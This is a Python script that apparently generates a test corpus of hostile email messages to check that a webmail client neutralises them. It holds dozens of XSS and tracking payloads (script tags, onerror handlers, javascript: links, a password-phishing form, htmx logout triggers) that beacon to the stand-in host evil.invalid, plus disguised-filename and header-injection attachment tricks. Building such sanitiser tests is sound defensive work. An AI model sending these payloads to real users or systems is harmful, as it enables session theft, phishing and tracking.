"""Writes the hostile-mail corpus (tests/data/hostile/*.eml). Each message tries to run script,
reach the network, or break out of the reading pane; the webmail must render every one inert.
The payloads beacon to evil.invalid so that a browser test can see any request that escapes.
Run: python tests/data/make_hostile.py"""

import base64
from pathlib import Path

OUT = Path(__file__).parent / "hostile"
EVIL = "http://evil.invalid"

HTML = {
    "script_tag": f"<script>fetch('{EVIL}/script')</script><p>hello</p>",
    "script_uppercase": f"<SCRIPT SRC={EVIL}/x.js></SCRIPT><p>hi</p>",
    "script_in_comment_trick": "<!--<script>--><script>alert(1)</script><!--></script>-->",
    "img_onerror": f"<img src=x onerror=\"fetch('{EVIL}/onerror')\">",
    "body_onload": f"<body onload=\"location='{EVIL}/onload'\"><p>x</p></body>",
    "svg_onload": f"<svg onload=\"fetch('{EVIL}/svg')\"><circle r=10 /></svg>",
    "svg_script": f"<svg><script>fetch('{EVIL}/svgscript')</script></svg>",
    "svg_foreignobject": f"<svg><foreignObject><iframe src='{EVIL}/fo'></iframe></foreignObject></svg>",
    "svg_use_href": f"<svg><use href='{EVIL}/sprite.svg#a'/></svg>",
    "math_href": "<math><mi xlink:href='javascript:alert(1)'>click</mi></math>",
    "math_mtext_xss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "javascript_link": "<a href=\"javascript:alert(document.cookie)\">click me</a>",
    "javascript_entity_link": "<a href=\"&#106;avascript:alert(1)\">click</a>",
    "javascript_whitespace_link": "<a href=\" java\tscript:alert(1)\">click</a>",
    "data_url_link": "<a href=\"data:text/html,<script>alert(1)</script>\">data</a>",
    "data_url_img": "<img src=\"data:image/svg+xml;base64,"
    + base64.b64encode(b"<svg onload=alert(1)></svg>").decode() + "\">",
    "vbscript_link": "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "css_expression": "<p style=\"width: expression(alert(1))\">ie</p>",
    "css_import": f"<style>@import url({EVIL}/import.css);</style><p>x</p>",
    "css_background_url": f"<div style=\"background:url({EVIL}/bg.png)\">bg</div>",
    "css_background_attr": f"<table background=\"{EVIL}/table.png\"><tr><td>x</td></tr></table>",
    "css_behavior": "<p style=\"behavior:url(x.htc);-moz-binding:url(x.xml#x)\">b</p>",
    "style_tag_remote_font": f"<style>@font-face{{font-family:x;src:url({EVIL}/f.woff)}}</style>",
    "meta_refresh": f"<meta http-equiv=\"refresh\" content=\"0;url={EVIL}/refresh\"><p>x</p>",
    "base_href": f"<base href=\"{EVIL}/\"><a href=\"page\">relative</a><img src=\"pic.png\">",
    "form_injection": f"<form action=\"{EVIL}/phish\" method=post><input name=password>"
    "<button>Log in</button></form>",
    "iframe_injection": f"<iframe src=\"{EVIL}/frame\"></iframe>",
    "object_embed": f"<object data=\"{EVIL}/x.swf\"></object><embed src=\"{EVIL}/y.swf\">",
    "htmx_attributes": "<div hx-get=\"/logout/\" hx-trigger=\"load\">htmx</div>"
    "<a hx-post=\"/actions/\" hx-vals='{\"action\":\"delete\"}'>x</a>",
    "hx_on_attribute": "<button hx-on:click=\"alert(1)\" data-hx-get=\"/\">b</button>",
    "remote_image_tracker": f"<img src=\"{EVIL}/pixel.gif\" width=1 height=1>",
    "srcset_tracker": f"<img srcset=\"{EVIL}/a.png 1x\" src=\"{EVIL}/b.png\">",
    "picture_source": f"<picture><source srcset=\"{EVIL}/s.webp\"><img alt=x></picture>",
    "video_poster": f"<video poster=\"{EVIL}/poster.png\" src=\"{EVIL}/v.mp4\"></video>",
    "audio_src": f"<audio autoplay src=\"{EVIL}/a.mp3\"></audio>",
    "link_stylesheet": f"<link rel=stylesheet href=\"{EVIL}/s.css\"><p>x</p>",
    "link_prefetch": f"<link rel=prefetch href=\"{EVIL}/prefetch\"><link rel=dns-prefetch href=\"//evil.invalid\">",
    "template_noscript": f"<noscript><img src=\"{EVIL}/noscript.png\"></noscript><template><script>alert(1)</script></template>",
    "unclosed_tags": "<p><b><i><script>alert(1)",
    "nested_quotes": "<img src=\"x\" alt=\"\"\" onerror=\"alert(1)\">",
    "target_top_link": f"<a href=\"{EVIL}/top\" target=\"_top\">top</a>",
    "cid_script": "<img src=\"cid:notthere\" onerror=\"alert(1)\">",
}

HEADERS_ONLY = {
    "subject_script": ("=?utf-8?b?" + base64.b64encode(b"<script>alert(1)</script>").decode()
                       + "?=", "<p>see subject</p>"),
    "from_name_html": ("plain", "<p>see sender</p>"),
}


def html_message(name: str, html: str, subject: str | None = None, sender: str | None = None) -> bytes:
    subject = subject or f"hostile: {name}"
    sender = sender or "Mallory <mallory@evil.invalid>"
    return (
        f"From: {sender}\r\nTo: demo@example.test\r\nSubject: {subject}\r\n"
        f"Message-ID: <{name}@evil.invalid>\r\nDate: Mon, 01 Jan 2024 10:00:00 +0000\r\n"
        "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        f"{html}\r\n"
    ).encode()


def attachment_message(name: str, filename: str, ctype: str, data: bytes) -> bytes:
    return (
        "From: Mallory <mallory@evil.invalid>\r\nTo: demo@example.test\r\n"
        f"Subject: hostile: {name}\r\nMessage-ID: <{name}@evil.invalid>\r\n"
        "Date: Mon, 01 Jan 2024 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=\"XX\"\r\n\r\n--XX\r\n"
        "Content-Type: text/plain; charset=utf-8\r\n\r\nsee attachment\r\n--XX\r\n"
        f"Content-Type: {ctype}\r\nContent-Disposition: attachment; filename=\"{filename}\"\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n"
        f"{base64.b64encode(data).decode()}\r\n--XX--\r\n"
    ).encode()


def main() -> None:
    OUT.mkdir(exist_ok=True)
    corpus: dict[str, bytes] = {}
    for name, html in HTML.items():
        corpus[name] = html_message(name, html)
    corpus["subject_script"] = html_message("subject_script", "<p>see subject</p>",
                                            subject=HEADERS_ONLY["subject_script"][0])
    corpus["from_name_html"] = html_message(
        "from_name_html", "<p>see sender</p>",
        sender="\"<img src=x onerror=alert(1)>\" <mallory@evil.invalid>")
    corpus["attachment_html_as_image"] = attachment_message(
        "attachment_html_as_image", "cute.png", "image/png", b"<script>alert(1)</script>")
    corpus["attachment_name_traversal"] = attachment_message(
        "attachment_name_traversal", "../../etc/passwd\u202egpj.exe", "application/octet-stream",
        b"MZ")
    corpus["attachment_name_script"] = attachment_message(
        "attachment_name_script", "<img src=x onerror=alert(1)>.html", "text/html",
        b"<script>alert(1)</script>")
    corpus["attachment_bad_mime"] = attachment_message(
        "attachment_bad_mime", "x.svg", "image/svg+xml\"; onload=\"alert(1)",
        b"<svg onload=alert(1)></svg>")
    corpus["attachment_encoded_name"] = attachment_message(
        "attachment_encoded_name", "=?utf-8?q?=3Cscript=3Ealert(1)=3C/script=3E.txt?=",
        "text/plain", b"x")
    corpus["plain_text_html"] = (
        "From: m@evil.invalid\r\nTo: demo@example.test\r\nSubject: hostile: plain_text_html\r\n"
        "Message-ID: <plain_text_html@evil.invalid>\r\nDate: Mon, 01 Jan 2024 10:00:00 +0000\r\n"
        "Content-Type: text/plain\r\n\r\n<script>alert(1)</script>"
        " <a href=\"javascript:alert(1)\">x</a> javascript:alert(1) "
        f"<img src={EVIL}/plain.png> <div hx-get=\"/logout/\" hx-trigger=\"load\"></div>\r\n"
    ).encode()
    corpus["utf7_charset"] = (
        b"From: m@evil.invalid\r\nTo: demo@example.test\r\nSubject: hostile: utf7_charset\r\n"
        b"Message-ID: <utf7_charset@evil.invalid>\r\nDate: Mon, 01 Jan 2024 10:00:00 +0000\r\n"
        b"Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n"
    )
    for name, raw in corpus.items():
        (OUT / f"{name}.eml").write_bytes(raw)
    print(f"wrote {len(corpus)} messages to {OUT}")


if __name__ == "__main__":
    main()
